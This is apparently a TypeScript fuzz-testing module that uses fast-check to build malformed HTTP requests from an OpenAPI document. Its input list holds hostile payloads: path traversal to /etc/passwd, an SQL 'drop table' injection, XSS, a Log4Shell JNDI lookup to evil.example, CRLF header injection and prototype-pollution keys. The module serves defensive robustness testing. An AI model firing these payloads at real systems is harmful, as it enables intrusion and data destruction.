import * as fc from 'fast-check';
import type { ApiDocument } from '#http/docs/docs-page.ts';
import type { SchemaNode } from '#http/docs/schema-text.ts';

/** What is sent: somewhat as the document says, and somewhere not. */
export interface HostileRequest {
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | null;
}

export interface ApiOperation {
  readonly method: string;
  readonly path: string;
  readonly parameters: readonly {
    readonly name: string;
    readonly in: string;
    readonly schema?: SchemaNode;
  }[];
  readonly body: SchemaNode | null;
}

const TEXTS = [
  '',
  ' ',
  '\0',
  '\uD83D',
  '\uFDD0dead',
  '../../../../etc/passwd',
  "' or 1=1; drop table kedge.person; --",
  '__proto__',
  'constructor',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  'a\r\nSet-Cookie: kedge=1',
  '\u202Egnp.exe',
  '9'.repeat(400),
  'x'.repeat(10_000),
  'NaN',
  '-1',
  '1e309',
  '2026-13-45T99:00:00Z',
  '*',
  '%',
  '%00',
  '\\',
  '[',
] as const;

const text = fc.oneof(
  fc.constantFrom(...TEXTS),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ maxLength: 12 }),
);
const anything = fc.oneof(
  text,
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, 2 ** 53, 0.1, [], {}, [[[[]]]], [null], {
    __proto__: 1,
  }),
  fc.jsonValue({ maxDepth: 2 }),
);

export function operationsOf({ paths = {} }: ApiDocument): readonly ApiOperation[] {
  return Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, { parameters = [], requestBody }]) => ({
      method: method.toUpperCase(),
      path,
      parameters,
      body: requestBody?.content?.['application/json']?.schema ?? null,
    })),
  );
}

/** @param known ids that exist, so that some requests get further */
export function hostileRequest(
  { path, parameters, body }: ApiOperation,
  document: ApiDocument,
  known: readonly string[],
): fc.Arbitrary<HostileRequest> {
  const declared = parameters.filter((parameter) => parameter.in === 'query');
  const query = fc.array(
    fc.tuple(
      fc.oneof(
        {
          weight: 4,
          arbitrary: fc.constantFrom(...(declared.length === 0 ? ['q'] : declared.map(({ name }) => name))),
        },
        { weight: 1, arbitrary: text },
      ),
      fc.oneof(text, ...declared.map(({ schema = {} }) => valueOf(schema, document).map(String))),
    ),
    { maxLength: 4 },
  );
  return fc
    .record({
      parts: fc.tuple(...namesIn(path).map(() => pathPart(known))),
      query,
      body: body === null ? fc.option(anything.map(asJson), { freq: 3 }) : bodyOf(body, document),
      type: fc.constantFrom(
        ...Array.from({ length: 8 }, () => 'application/json'),
        'application/json; charset=utf-16',
        'text/plain',
        '',
        'application/json;\tx',
      ),
      key: fc.option(fc.string({ maxLength: 20 }).map((key) => key.replaceAll(/[^\x20-\x7e]/g, '').trim())),
      tag: fc.option(fc.constantFrom('*', 'W/"x"', '"', ', ,')),
    })
    .map(({ parts, query: said, body: sent, type, key, tag }) => ({
      path: `${fill(path, parts)}${said.length === 0 ? '' : `?${new URLSearchParams(said.map(([name, value]): [string, string] => [name.toWellFormed(), value.toWellFormed()])).toString()}`}`,
      headers: {
        ...(sent !== null && { 'content-type': type }),
        ...(key !== null && { 'idempotency-key': key }),
        ...(tag !== null && { 'if-none-match': tag }),
      },
      body: sent,
    }));
}

const namesIn = (path: string): readonly string[] =>
  [...path.matchAll(/\{([^}]+)\}/g)].map(([, name = '']) => name);

const pathPart = (known: readonly string[]): fc.Arbitrary<string> =>
  fc.oneof(
    text.map((part) => encodeURIComponent(part.toWellFormed())),
    fc.constantFrom('%ff', '%', '%2e%2e', '%2F', 'a%00b', ...known.map(encodeURIComponent)),
  );

function fill(path: string, parts: readonly string[]): string {
  const left = [...parts];
  return path.replaceAll(/\{[^}]+\}/g, () => left.shift() || 'x');
}

/** A body as the document has it, with one thing in it that is something else; or no JSON at all. */
const bodyOf = (schema: SchemaNode, document: ApiDocument): fc.Arbitrary<string | null> =>
  fc.oneof(
    { weight: 3, arbitrary: valueOf(schema, document).map(asJson) },
    {
      weight: 5,
      arbitrary: fc
        .tuple(valueOf(schema, document), fc.nat(), anything)
        .map(([value, where, hostile]) => asJson(spoiled(value, where, hostile))),
    },
    { weight: 1, arbitrary: anything.map(asJson) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('', '{', '[}', 'nul', '['.repeat(50_000), '{"a":'.repeat(5000), '\uFEFF{}'),
    },
    { weight: 1, arbitrary: fc.constant(null) },
  );

function spoiled(value: unknown, where: number, hostile: unknown): unknown {
  if (typeof value !== 'object' || value === null) return hostile;
  const keys = Object.keys(value);
  const key = keys[where % Math.max(1, keys.length)];
  if (key === undefined) return hostile;
  const inner = (value as Readonly<Record<string, unknown>>)[key];
  const next =
    where % 3 === 0 && typeof inner === 'object' ? spoiled(inner, Math.floor(where / 3), hostile) : hostile;
  return Array.isArray(value) ? value.with(Number(key), next) : { ...value, [key]: next };
}

const asJson = (value: unknown): string => JSON.stringify(value) ?? 'null';

/** A value as a schema has it, most of the time. */
function valueOf(schema: SchemaNode, document: ApiDocument, depth = 0): fc.Arbitrary<unknown> {
  if (depth > 6) return fc.constant(null);
  const deeper = (inner: SchemaNode): fc.Arbitrary<unknown> => valueOf(inner, document, depth + 1);
  if (schema.$ref !== undefined) {
    return deeper(document.components?.schemas?.[schema.$ref.slice(schema.$ref.lastIndexOf('/') + 1)] ?? {});
  }
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  const either = schema.anyOf ?? schema.oneOf;
  if (either !== undefined) return fc.oneof(...either.map(deeper));
  if (schema.allOf !== undefined) {
    return fc.tuple(...schema.allOf.map(deeper)).map((all) => Object.assign({}, ...all) as unknown);
  }
  const types = [schema.type ?? []].flat();
  return types.length === 0 ? anything : fc.oneof(...types.map((type) => ofType(type, schema, deeper)));
}

function ofType(
  type: string,
  schema: SchemaNode,
  deeper: (inner: SchemaNode) => fc.Arbitrary<unknown>,
): fc.Arbitrary<unknown> {
  if (type === 'null') return fc.constant(null);
  if (type === 'boolean') return fc.boolean();
  if (type === 'integer' || type === 'number')
    return fc.oneof(fc.integer({ min: 0, max: 100 }), fc.integer());
  if (type === 'array') return fc.array(deeper(schema.items ?? {}), { maxLength: 3 });
  if (type === 'object') {
    return fc.record(
      Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([name, inner]) => [name, deeper(inner)]),
      ),
      {
        requiredKeys: [...(schema.required ?? [])],
      },
    );
  }
  return fc.oneof(
    fc.constantFrom('a', 'shop', 'ana@example.com', 'https://example.com/x.git', '2026-05-04'),
    text,
  );
}
